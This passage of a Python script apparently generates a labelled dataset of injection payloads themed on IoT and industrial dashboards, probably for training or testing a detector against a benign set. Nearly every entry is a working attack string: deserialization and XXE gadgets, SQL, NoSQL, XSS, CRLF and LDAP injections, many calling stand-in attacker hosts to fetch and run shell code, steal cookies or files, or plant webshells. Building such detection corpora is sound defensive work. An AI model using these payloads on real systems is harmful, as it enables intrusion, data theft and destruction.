        ("device-profile-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
        ("gateway-state-pickle-protocol0", pickle0),
        ("device-cache-pickle+base64", b64(pickle1)),
        ("device-config-fastjson-autotype-jdbcrowset", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9:1389/fj","autoCommit":true}'),
        ("device-config-jackson-logback-jndi", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://attacker.example:1389/jk"}]'),
        ("scada-client-jsonnet-objectdataprovider", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd.exe","/c certutil -urlcache -f http://203.0.113.66/a.exe %TEMP%\\\\a.exe"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
        ("nodered-context-node-serialize-iife", '{"state":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl attacker.example/ns|sh\')}()"}'),
        ("php-dashboard-widget-unserialize", 'O:13:"AlarmExporter":2:{' + php_s("path") + php_s("/var/www/html/s.php") + php_s("body") + php_s('<?php system($_GET["c"]); ?>') + "}"),
        ("device-descriptor-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>curl attacker.example/xs|sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("upnp-device-description-xxe-file", '<?xml version="1.0"?>\n<!DOCTYPE root [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<root xmlns="urn:schemas-upnp-org:device-1-0"><device><friendlyName>&x;</friendlyName></device></root>'),
        ("opcua-nodeset-import-xxe-oob-dtd", '<?xml version="1.0"?>\n<!DOCTYPE UANodeSet [<!ENTITY % d SYSTEM "http://attacker.example/ua.dtd"> %d;]>\n<UANodeSet xmlns="http://opcfoundation.org/UA/2011/03/UANodeSet.xsd"><UAVariable NodeId="ns=1;s=Temp" BrowseName="1:Temp"/></UANodeSet>'),
        ("onvif-soap-xxe-php-filter", '<?xml version="1.0"?><!DOCTYPE e [<!ENTITY c SYSTEM "php://filter/convert.base64-encode/resource=/var/www/dashboard/config.php">]><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><GetDeviceInformation>&c;</GetDeviceInformation></s:Body></s:Envelope>'),
        ("bacnet-export-xml-xxe-param-entity-exfil", '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/gw/gw.toml"><!ENTITY % e SYSTEM "http://203.0.113.9/x.dtd"> %e;]><r>&send;</r>'),
        ("floorplan-svg-rasterize-xxe", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="400" height="60"><text x="10" y="40">&h;</text></svg>'),
        ("device-settings-json-proto-pollution", '{"name":"Pump #3","__proto__":{"isAdmin":true}}'),
        ("flow-import-constructor-prototype-execargv", '{"label":"Flow 1","constructor":{"prototype":{"execArgv":["--eval=require(\'child_process\').execSync(\'curl attacker.example/pp|sh\')"]}}}'),
        ("dashboard-query-string-proto-pollution", "widgets[0][__proto__][role]=admin&widgets[0][title]=Temps"),
        ("settings-merge-proto-ejs-gadget", '{"__proto__":{"outputFunctionName":"_x;global.process.mainModule.require(\'child_process\').execSync(\'curl attacker.example/ejs|sh\');var _y"}}'),
        ("device-name-csv-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Pump details\")"),
        ("alarm-comment-csv-dde-cmd", "=cmd|' /C powershell -nop -c iwr attacker.example/c.ps1|iex'!A1"),
        ("sensor-label-csv-webservice", "=WEBSERVICE(\"http://exfil.attacker.example/?v=\"&ENCODEURL(C2))"),
        ("register-map-row-csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:A20),\"//a\")"),
        ("plain-jinja-builtins-import", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("plain-log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
        ("plain-spel-getenv", "${T(java.lang.System).getenv()}"),
        ("plain-xxe-passwd", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("plain-proto-pollution", '{"__proto__":{"admin":true}}'),
        ("plain-pyyaml-apply", "!!python/object/apply:os.system [\"id\"]"),
    ]
    cmds = ["id", "uname -a", "cat /etc/passwd", "env", "ls /data", "cat /etc/gw/gw.toml"]

    def gen():
        k = RNG.randint(0, 1)
        c = pick(cmds)
        if k == 0:
            return "notify-message-jinja-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('%s').read() }} %s" % (c, pick(["°C", "%", "bar", "ppm"]))
        return "mqtt-client-id-log4shell-ldap", "%s-${jndi:ldap://%s/%s}" % (pick(["gw-07", "esp32-aa12f0", "hub-living", "rtu-12"]), pick(ATK), "".join(pick("abcxyz0123") for _ in range(3)))
    return take("code", lit, gen, 78)


# ====================================================================== sqli
def sqli():
    lit = [
        ("tag-browser-search-union-users", "Line3%' UNION SELECT username, password_hash, NULL FROM users-- "),
        ("tag-search-union-mssql-logins", "Temp' UNION ALL SELECT name, password_hash FROM sys.sql_logins--"),
        ("device-filter-boolean-or-true", "pump-3' OR '1'='1"),
        ("device-serial-stacked-pg-sleep", "ESP32-AA12F0'; SELECT pg_sleep(10)--"),
        ("historian-tag-id-waitfor-delay", "812; WAITFOR DELAY '0:0:8'--"),
        ("historian-start-time-xp-cmdshell", "2024-06-01'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.66/h.ps1|iex'--"),
        ("alarm-search-error-extractvalue", "HI' AND extractvalue(1, concat(0x7e, (SELECT password FROM operators LIMIT 1)))-- -"),
        ("alarm-search-error-updatexml", "LO' AND updatexml(1,concat(0x3a,(SELECT @@version)),1)#"),
        ("site-filter-pg-cast-error-shadow", "Plant1' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)--"),
        ("device-id-stacked-update-role", "17; UPDATE users SET role='admin' WHERE email='op@attacker.example';--"),
        ("gateway-sqlite-union-sqlite-master", "gw-07' UNION SELECT name, sql FROM sqlite_master--"),
        ("gateway-sqlite-heavy-cross-join", "1 AND (SELECT count(*) FROM sensor_log a, sensor_log b, sensor_log c) > 0"),
        ("sort-column-case-blind-hash-prefix", "(CASE WHEN (SELECT substr(password_hash,1,1) FROM users WHERE id=1)='$' THEN name ELSE serial END)"),
        ("sort-order-if-sleep-api-key", "ts, IF(ASCII(SUBSTRING((SELECT api_key FROM integrations LIMIT 1),1,1))>77, SLEEP(4), 0)"),
        ("page-size-limit-union-tokens", "50 UNION SELECT token, NULL, NULL FROM api_tokens"),
        ("date-range-end-boolean-blind", "2024-06-07' AND (SELECT COUNT(*) FROM users WHERE role='admin' AND password_hash LIKE 'a%')>0 AND '1'='1"),
        ("mqtt-topic-filter-stored-union", "home/+/temperature' UNION SELECT client_id, password FROM mqtt_users--"),
        ("opcua-node-id-search-stacked-drop", "ns=2;s=Boiler.Pressure'; DROP TABLE tag_history;--"),
        ("tag-path-search-pg-copy-to-program", "Plant1/Line3'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/pg|sh';--"),
        ("alarm-ack-comment-insert-operator", "ok'); INSERT INTO operators(name, pin, role) VALUES ('svc', '0000', 'admin');--"),
        ("influxql-device-tag-stacked-drop-series", "pump-3' ; DROP SERIES FROM /.*/ ; SELECT * FROM x WHERE '1'='1"),
        ("influxql-device-tag-regex-tautology", "gw-07' OR device =~ /.*/ OR device='x"),
        ("historian-value-filter-union-load-file", "0 UNION SELECT LOAD_FILE('/etc/mysql/debian.cnf'), 2, 3"),
        ("dashboard-widget-union-into-outfile", "1 UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/dashboard/w.php'"),
        ("alarm-search-oob-xp-dirtree", "x'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\s'--"),
        ("oracle-historian-utl-inaddr-exfil", "x' || UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.attacker.example') || '"),
        ("device-search-german-union", "Kühlraum' UNION SELECT benutzer, passwort FROM bediener--"),
        ("device-search-spanish-or-true", "bomba nº 2' OR 1=1-- "),
        ("tag-search-json-filter-value", '{"tag":"Line3/%","quality":"192 OR 1=1","limit":100}'),
        ("historian-interval-stacked-create-login", "5m'; CREATE LOGIN hist_svc WITH PASSWORD='FAKE-Passw0rd!'; ALTER SERVER ROLE sysadmin ADD MEMBER hist_svc;--"),
        ("timescale-device-id-alter-superuser", "1; ALTER USER grafana_ro WITH SUPERUSER;--"),
        ("timescale-metric-union-pg-read-file", "1 UNION SELECT pg_read_file('/etc/gw/gw.toml'), NULL--"),
        ("timescale-site-union-pg-ls-dir", "x' UNION SELECT string_agg(f, ','), NULL FROM pg_ls_dir('/var/lib/postgresql') f--"),
        ("dashboard-panel-id-benchmark-blind", "1 AND BENCHMARK(5000000, SHA1('x'))"),
        ("dashboard-panel-union-information-schema", "0 UNION SELECT table_name, column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
        ("scada-alarm-id-union-sysobjects", "1 UNION SELECT name, NULL FROM sysobjects WHERE xtype='U'--"),
        ("gateway-sqlite-load-extension", "1'); SELECT load_extension('/data/upload/evil.so');--"),
        ("gateway-sqlite-attach-database-webshell", "x'; ATTACH DATABASE '/www/pages/s.php' AS s; CREATE TABLE s.t (d text); INSERT INTO s.t VALUES ('<?php system($_GET[0]); ?>');--"),
        ("device-id-union+comment-space", "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users"),
        ("tag-search-union+mixed-case", "x' uNiOn SeLeCt token, 1 FrOm api_tokens-- "),
        ("tag-search-or-true+url", q("Line3' OR 1=1-- ")),
        ("tag-search-union+newline-ws", "x'\nUNION\nSELECT\napi_key,\nNULL\nFROM\nintegrations--"),
        ("metrics-filter-clickhouse-system-users", "x' UNION ALL SELECT name, auth_type FROM system.users--"),
        ("timescale-time-bucket-width-breakout", "5 minutes'::interval, ts) AS b, (SELECT password_hash FROM users LIMIT 1) AS x FROM readings GROUP BY 1,2--"),
        ("order-by-pg-cast-error-data-directory", "ts DESC, (SELECT 1 FROM users WHERE 1=CAST(current_setting('data_directory') AS int))"),
        ("alarm-priority-numeric-or-true", "1 OR 1=1"),
        ("device-mac-filter-union-wifi-psk", "24:6f:28:aa:bb:cc' UNION SELECT mac, wifi_psk FROM device_provisioning--"),
        ("register-map-name-insert-subquery", "meter_v3', (SELECT group_concat(username||':'||password) FROM users))--"),
        ("bacnet-object-name-stacked-delete-audit", "AI:3'; DELETE FROM audit_log WHERE ts > now() - interval '1 day';--"),
        ("firmware-channel-boolean-blind-substring", "stable' AND SUBSTRING((SELECT password FROM admins LIMIT 1),1,1)='a"),
        ("site-name-japanese-union", "工場1' UNION SELECT login, pass FROM accounts--"),
        ("technician-id-openrowset-outbound", "7; SELECT * FROM OPENROWSET('SQLOLEDB','Server=203.0.113.9;Trusted_Connection=yes','SELECT 1')--"),
        ("historian-tag-pg-dblink-exfil", "x' AND (SELECT dblink_connect('host=203.0.113.9 user=' || (SELECT passwd FROM pg_shadow LIMIT 1) || ' dbname=x')) IS NULL--"),
        ("alarm-id-union+hex-literal", "1 UNION SELECT 0x61646d696e, password FROM users WHERE name=0x61646d696e"),
        ("device-id-union+versioned-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ user, authentication_string FROM mysql.user"),
        ("device-group-in-list-breakout", "1,2,3) OR (1=1"),
        ("sensor-type-like-wildcard-breakout", "temp%' AND 1=(SELECT COUNT(*) FROM users WHERE password_hash LIKE '$2b$%')--"),
        ("meter-id-union-mssql-linked-servers", "4 UNION SELECT srvname, datasource FROM master..sysservers--"),
        ("alarm-text-search-sqlite-group-concat", "%' UNION SELECT 1, group_concat(username || ':' || pin_hash) FROM operators--"),
        ("plain-or-true-comment", "' OR 1=1--"),
        ("plain-union-version", "' UNION SELECT @@version--"),
        ("plain-sleep-blind", "1' AND SLEEP(5)-- -"),
        ("plain-stacked-drop-table", "'; DROP TABLE users;--"),
        ("plain-pg-sleep", "1);SELECT pg_sleep(7)--"),
        ("plain-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
        ("plain-admin-comment", "admin'--"),
    ]
    prefixes = ["Line3", "pump-3", "TT-101", "gw-07", "Plant1/Line3/PLC2", "ns=2;s=Boiler.Pressure", "Freezer 2"]
    tails = ["' UNION SELECT username, password_hash FROM users--", "' AND SLEEP(%d)-- -", "'; SELECT pg_sleep(%d)--",
             "' OR (SELECT COUNT(*) FROM operators) > %d--", "' AND 1=CAST((SELECT version()) AS int)--"]

    def gen():
        t = pick(tails)
        if "%d" in t:
            t = t % RNG.randint(3, 12)
        return "tag-search-quote-breakout", pick(prefixes) + t
    return take("sqli", lit, gen, 72)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("device-registry-json-ne", '{"serial":{"$ne":null},"owner":{"$ne":""}}'),
        ("device-api-key-login-json-gt", '{"device_id":"gw-07","api_key":{"$gt":""}}'),
        ("device-token-query-string-bracket-ne", "device_id=gw-07&token[$ne]=x"),
        ("site-pin-regex-prefix", '{"site":"Plant1","pin":{"$regex":"^12"}}'),
        ("telemetry-query-where-sleep", '{"$where":"sleep(5000) || true"}'),
        ("device-name-where-string-breakout", "pump-3' || sleep(3000) || '"),
        ("alarm-filter-or-exists", '{"$or":[{"severity":"HI"},{"_id":{"$exists":true}}]}'),
        ("operator-login-in-list-ne", '{"username":{"$in":["admin","root","installer"]},"password":{"$ne":"x"}}'),
        ("report-pipeline-lookup-users", '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"o"}}]'),
        ("device-filter-expr-function-js", '{"$expr":{"$function":{"body":"function(){ sleep(4000); return true; }","args":[],"lang":"js"}}}'),
        ("firmware-list-query-string-regex", "firmware[$regex]=.*&channel=stable"),
        ("tenant-user-query-string-gt", "tenant=acme&role[$gt]="),
        ("device-where-api-key-timing", '{"$where":"this.api_key.charAt(0) == \'a\' ? sleep(3000) : 1"}'),
        ("device-search-elasticsearch-query-string-index", "device:pump-3 OR _index:credentials"),
        ("device-filter-couchdb-selector-gt", '{"selector":{"type":"device","secret":{"$gt":null}}}'),
        ("mqtt-auth-plugin-lookup-ne-regex", '{"clientid":"gw-07","username":{"$ne":"none"},"topic":{"$regex":".*"}}'),
        ("device-query-string-ne+url", "serial%5B%24ne%5D=1&owner%5B%24exists%5D=true"),
        ("operator-filter-nin-empty", '{"role":{"$nin":[]},"password":{"$exists":true}}'),
        ("settings-dot-notation-regex", "filter[settings.mqtt.password][$regex]=^a"),
        ("plain-ne-null", '{"$ne": null}'),
        ("plain-password-gt-empty", '{"password":{"$gt":""}}'),
        ("plain-where-return-true", "'; return true; var z='"),
    ]

    def gen():
        return "site-pin-regex-prefix", '{"site":"%s","pin":{"$regex":"^%s"}}' % (pick(["Plant1", "Plant2", "Osaka", "Usine_Lyon"]),
                                                                                 "".join(pick("0123456789") for _ in range(RNG.randint(1, 3))))
    return take("nosqli", lit, gen, 24)


# ====================================================================== xss
def xss():
    lit = [
        ("device-name-img-onerror-cookie", "Pump #3<img src=x onerror=\"fetch('//attacker.example/c?'+document.cookie)\">"),
        ("wifi-ssid-scan-list-script-src", "<script src=//203.0.113.9/s>"),
        ("bluetooth-name-scan-list-iframe", "BT<iframe src=javascript:alert(1)>"),
        ("mqtt-payload-dashboard-script-exfil", '{"temp":"<script>new Image().src=\'https://exfil.attacker.example/?c=\'+encodeURIComponent(document.cookie)</script>","hum":48}'),
        ("mqtt-payload-json+json-unicode", '{"status":"\\u003cimg src=x onerror=alert(document.cookie)\\u003e"}'),
        ("alarm-message-attribute-breakout-onfocus", "\" autofocus onfocus=\"location='//attacker.example/?'+localStorage.getItem('token')"),
        ("scene-name-details-ontoggle-atob+base64", "Movie night<details open ontoggle=eval(atob('" + b64("fetch('//attacker.example/x?'+document.cookie)") + "'))>"),
        ("firmware-release-notes-markdown-js-link", "## 2.4.2\n- Fixed Wi-Fi reconnect\n- [Download](javascript:fetch('//attacker.example/?'+document.cookie))"),
        ("release-notes-html-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.location='//attacker.example/r'</script>\"></iframe>"),
        ("floorplan-svg-upload-script-exfil", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 800 600"><rect width="800" height="600" fill="#eee"/><script>fetch("/api/v1/users",{credentials:"include"}).then(r=>r.text()).then(t=>navigator.sendBeacon("//exfil.attacker.example/u",t))</script></svg>'),
        ("floorplan-svg-animate-onbegin", '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(document.domain)" attributeName="x" dur="1s"/></svg>'),
        ("tag-description-textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
        ("technician-note-title-breakout", "</title><img src=1 onerror=alert(1)>"),
        ("device-room-select-option-breakout", "Kitchen</option></select><img src=x onerror=alert(origin)>"),
        ("nodered-node-label-script-close", "</script><script>alert(document.domain)</script>"),
        ("serial-console-web-terminal-html", "OK\r\n<img src=x onerror=\"new WebSocket('ws://attacker.example/t')\">"),
        ("markdown-card-image-attribute-breakout", "![chart](x\" onerror=\"alert(document.cookie))"),
        ("device-manual-url-javascript-scheme", "javascript:fetch('//attacker.example/?'+document.cookie)"),
        ("device-manual-url-data-html+base64", "data:text/html;base64," + b64("<script>alert(document.domain)</script>")),
        ("alarm-text-vue-template-expression", "{{_c.constructor('alert(document.cookie)')()}}"),
        ("alarm-text-angularjs-expression", "{{constructor.constructor('alert(1)')()}}"),
        ("device-note-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("ota-notes-meta-refresh-phishing", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
        ("ticket-body-base-href-hijack", "<base href=\"https://attacker.example/\">"),
        ("alarm-note-fake-login-form", "<form action=\"https://attacker.example/l\" method=\"post\"><p>Session expired – log in again</p><input name=\"user\"><input name=\"pass\" type=\"password\"><button>OK</button></form>"),
        ("dashboard-title-css-import", "<style>@import url(//attacker.example/x.css);</style>"),
        ("device-label-onerror+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        ("device-label-handler+js-unicode", "<img src=x onerror=\"\\u0061lert(document.domain)\">"),
        ("scene-name-script+mixed-case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
        ("device-search-script+url", q("<script>alert(document.domain)</script>")),
        ("device-search-svg+double-url", q(q("<svg onload=alert(1)>"))),
        ("sensor-name-input-autofocus-onfocus", "Sensor 3\"><input autofocus onfocus=alert(document.domain)>"),
        ("camera-name-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
        ("report-header-body-onload-exfil", "<body onload=\"document.location='//attacker.example/b?'+document.cookie\">"),
        ("device-doc-object-data-javascript", "<object data=\"javascript:alert(document.domain)\"></object>"),
        ("release-notes-link-tab-obfuscated+whitespace", "<a href=\"jav&#x09;ascript:alert(1)\">Firmware notes</a>"),
        ("device-label-img-onerror-tagged-template", "<img src=x onerror=alert`document.domain`>"),
        ("alarm-banner-marquee-onstart", "<marquee onstart=alert(document.cookie)>ALARM</marquee>"),
        ("device-name-japanese-img-onerror", "冷蔵庫<img src=x onerror=alert('冷蔵庫')>"),
        ("alarm-text-russian-svg-onload", "Авария насоса <svg onload=alert(document.cookie)>"),
        ("technician-note-french-script-redirect", "Intervention terminée <script>document.location='https://attacker.example/?c='+document.cookie</script>"),
        ("scene-name-german-fullscreen-iframe", "Szene „Abend“<iframe src=\"https://attacker.example/phish\" style=\"position:fixed;inset:0;width:100%;height:100%;border:0\"></iframe>"),
        ("mqtt-topic-display-img-onerror", "home/<img src=x onerror=alert(1)>/temperature"),
        ("opcua-display-name-script", "ns=2;s=Boiler.<script>alert(1)</script>"),
        ("tag-description-div-onmouseover", "<div style=\"width:100%;height:100%;position:fixed;top:0;left:0\" onmouseover=\"alert(document.cookie)\">Boiler</div>"),
        ("register-map-csv-import-cell-img", "TT-101,<img src=x onerror=alert(1)>,°C"),
        ("gateway-user-agent-log-viewer-script", "Mozilla/5.0 <script src=https://attacker.example/ua.js></script>"),
        ("device-serial-svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Open</text></a></svg>"),
        ("ota-changelog-json-in-script-breakout", '{"notes":"</script><script>fetch(\'//attacker.example/o\')</script>"}'),
        ("device-label-single-quote-attribute-breakout", "Lamp' onmouseover='alert(document.domain)' x='"),
        ("floorplan-svg-foreignobject-iframe", "<svg><foreignObject width=\"100%\" height=\"100%\"><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>"),
        ("alarm-action-button-formaction", "<form><button formaction=javascript:alert(document.domain)>Acknowledge</button></form>"),
        ("hmi-label-keylogger-onerror", "<img src=x onerror=\"document.onkeypress=function(e){new Image().src='//attacker.example/k?k='+e.key}\">"),
        ("alarm-sound-audio-onerror", "<audio src=x onerror=alert(document.domain)>"),
        ("device-doc-embed-javascript", "<embed src=\"javascript:alert(1)\">"),
        ("ticket-body-srcdoc+html-entities", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
        ("gateway-hostname-dhcp-lease-list-svg", "gw<svg/onload=alert(document.domain)>"),
        ("zigbee-friendly-name-img-onerror", "zigbee2mqtt/<img src=1 onerror=fetch('//attacker.example/z')>"),
        ("plain-script-alert", "<script>alert(1)</script>"),
        ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-svg-onload", "<svg/onload=alert(1)>"),
        ("plain-javascript-uri", "javascript:alert(document.cookie)"),
        ("plain-body-onload", "<body onload=alert(1)>"),
        ("plain-attribute-breakout-script", "\"><script>alert(1)</script>"),
        ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ]
    names = ["Pump #3", "Freezer 2", "Kitchen lamp", "TT-101", "Gate opener", "Boiler", "gw-07", "Kühlraum 2"]
    vecs = ["<img src=x onerror=alert(%d)>", "<svg onload=alert(%d)>", "\"><script>alert(%d)</script>", "<details open ontoggle=alert(%d)>",
            "<iframe src=javascript:alert(%d)>"]

    def gen():
        return "device-name-html-injection", "%s %s" % (pick(names), pick(vecs) % RNG.randint(1, 999))
    return take("xss", lit, gen, 72)


# ====================================================================== crlf
def crlf():
    lit = [
        ("gateway-log-device-name-forged-entry", "Pump #3\n2024-06-11T14:05:00Z INFO auth: user=admin login OK from 10.10.3.5"),
        ("mqtt-client-id-broker-log-forged-connect", "gw-07\r\n1718114700: Client admin disconnected.\r\n1718114700: New client connected from 203.0.113.9 as admin (p2, c1, k60, u'admin')."),
        ("alarm-email-subject-bcc", "TT-101 HI\r\nBcc: archive@attacker.example"),
        ("alarm-email-from-name-reply-to", "Plant1 Alarms\r\nReply-To: ops@attacker.example\r\nX-Priority: 1"),
        ("webhook-custom-header-value-split", "Bearer x\r\nX-Forwarded-For: 127.0.0.1\r\nX-Admin: 1"),
        ("webhook-header-request-smuggling", "text/plain\r\nContent-Length: 0\r\n\r\nGET /api/v1/admin/users HTTP/1.1\r\nHost: localhost"),
        ("login-redirect-param-set-cookie+url", "/dashboard%0d%0aSet-Cookie:%20session=attacker-fixed;%20Path=/"),
        ("firmware-download-filename-response-split", "fw-2.4.1.bin\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
        ("sms-alert-text-ctrlz-at-call-forwarding", "Pump P3 tripped\x1a\rAT+CCFC=0,3,\"+15550100123\"\r"),
        ("sms-recipient-number-crlf-at-phonebook", "+4917012345\"\r\nAT+CPBR=1,250\r\n"),
        ("modem-apn-cr-at-second-context", "internet.example\"\rAT+CGDCONT=2,\"IP\",\"apn.attacker.example\"\r"),
        ("device-cache-key-redis-protocol", "device:gw-07\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename s.php\r\nSET x \"<?php system($_GET[0]); ?>\"\r\nSAVE\r\n"),
        ("state-cache-key-memcached-protocol", "state_pump3\r\nset admin_session 0 3600 4\r\ntrue\r\n"),
        ("syslog-forward-field-forged-sshd", "boot ok\n<13>Jun 11 14:05:00 gw-07 sshd[812]: Accepted password for root from 203.0.113.9 port 52214 ssh2"),
        ("readings-csv-log-forged-row", "21.4\n2024-06-11 14:05:00,TT-101,4.0,°C,Good,ack=admin"),
        ("json-log-field-quote-forge", "pump-3\",\"level\":\"info\",\"msg\":\"firmware signature verified\",\"user\":\"admin"),
        ("terminal-log-ansi-osc8-hyperlink", "gw-07\x1b]8;;https://attacker.example/fix\x07Click to fix\x1b]8;;\x07"),
        ("terminal-log-ansi-clear-screen", "temp ok\x1b[2J\x1b[H[INFO] all devices healthy"),
        ("device-log-unicode-line-separator", "Pump #3\u2028[INFO] admin password reset by system"),
        ("device-log-nel-forge", "Valve V-07\u0085WARN audit disabled by operator"),
        ("lang-header-utf8-crlf-trick+utf8-crlf", "x嘊嘍Set-Cookie: sid=attacker"),
        ("lang-param-content-language+url", "en%0d%0aX-Forwarded-Host:%20attacker.example"),
        ("redirect-param-location+double-url", "%250d%250aLocation:%2520https://attacker.example/"),
        ("alarm-email-recipient-smtp-rcpt", "ops@plant1.example>\r\nRCPT TO:<all@attacker.example"),
        ("alarm-email-body-smtp-smuggle", "Alarm cleared\r\n.\r\nMAIL FROM:<alarm@plant1.example>\r\nRCPT TO:<ceo@plant1.example>\r\nDATA\r\nSubject: Urgent: approve firmware\r\n\r\nPlease install https://attacker.example/fw.bin\r\n.\r\n"),
        ("device-http-user-agent-header-injection", "ESP32-HTTP/1.0\r\nX-Original-URL: /admin"),
        ("device-host-field-header-injection", "gw-07.local\r\nX-Forwarded-Proto: http"),
        ("firmware-ci-version-env-file-injection", "2.4.1\nLD_PRELOAD=/tmp/x.so"),
        ("mqtt-payload-json-log-newline-forge", "{\"t\":21}\n{\"level\":\"error\",\"msg\":\"breaker opened\",\"site\":\"Plant1\"}"),
        ("telemetry-path-nginx-log-forge", "/api/v1/telemetry\n203.0.113.9 - admin [11/Jun/2024:14:05:00 +0000] \"POST /api/v1/firmware/approve HTTP/1.1\" 200 2"),
        ("plain-crlf-set-cookie+url", "%0d%0aSet-Cookie:%20admin=true"),
        ("plain-crlf-raw-header", "\r\nX-Injected: 1"),
        ("plain-lf-log-forge", "\nINFO login succeeded for admin"),
    ]
    names = ["Pump #3", "gw-07", "TT-101", "Freezer 2", "hub-living"]
    forged = ["INFO user=admin action=firmware.approve result=ok", "WARN alarm TT-101 acknowledged by admin",
              "INFO door unlocked by system", "INFO ota signature check passed"]

    def gen():
        return "device-name-log-forged-entry", "%s%s2024-06-%02dT%s:00Z %s" % (pick(names), pick(["\n", "\r\n"]), RNG.randint(1, 28), hhmm(), pick(forged))
    return take("crlf", lit, gen, 34)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("technician-lookup-ldap-or-password", "*)(|(userPassword=*)"),
        ("operator-lookup-ldap-always-true", "jortiz)(|(objectClass=*)"),
        ("site-access-lookup-member-of-admins", "*)(memberOf=cn=scada-admins,ou=groups,dc=plant1,dc=example"),
        ("badge-lookup-ldap-truncation+null", "jortiz)(&)%00"),
        ("technician-lookup-mobile-enumeration", "*)(mobile=+49*"),
        ("operator-lookup-blind-password-prefix", "admin)(userPassword=a*"),
        ("gateway-ssh-user-lookup-public-key", "*)(sshPublicKey=*"),
        ("ad-computer-lookup-laps-password", "*)(ms-Mcs-AdmPwd=*"),
        ("ad-service-lookup-spn-kerberoast", "*)(servicePrincipalName=*"),
        ("technician-lookup-ldap+url", "%2A%29%28%7C%28cn%3D%2A"),
        ("technician-lookup-german-description", "Müller*)(|(description=*passwort*)"),
        ("shift-group-lookup-member-wildcard", "shift-c*)(|(member=*)"),
        ("device-inventory-xpath-tautology", "x' or '1'='1"),
        ("device-inventory-xpath-union-credentials", "x'] | //credentials/* | //device[@serial='x"),
        ("gateway-config-xpath-union-wifi-psk", "'] | //wifi/psk | //x['"),
        ("gateway-config-xpath-root-name-blind", "x' or name(/*[1])='gateway' or 'a'='b"),
        ("gateway-config-xpath-count-users", "x' or count(//user)>3 or 'a'='b"),
        ("gateway-config-xpath-substring-password", "x' or substring(//user[name='admin']/password,1,1)='s' or 'a'='b"),
        ("nodeset-xpath-double-quote-string-length", "x\" or string-length(//mqtt/password)>8 or \"a\"=\"b"),
        ("device-xml-xpath-ancestor-secret", "')]/ancestor::config//secret[('1'='1"),
        ("plain-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
        ("plain-xpath-or-empty", "' or ''='"),
    ]
    users = ["admin", "installer", "svc_scada", "jortiz", "kSato"]

    def gen():
        u = pick(users)
        return "operator-lookup-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdefgh0123456789") for _ in range(RNG.randint(1, 4))))
    return take("ldap-xpath", lit, gen, 24)


CATEGORIES = [
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("sqli", sqli),
    ("nosqli", nosqli),
    ("xss", xss),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    if BENIGN.exists():
        with BENIGN.open(encoding="utf-8") as f:
            benign = [json.loads(line)["value"] for line in f]
        both = [v for _, _, v in rows if v in set(benign)]
        assert not both, "value in both files: %r" % both[:3]
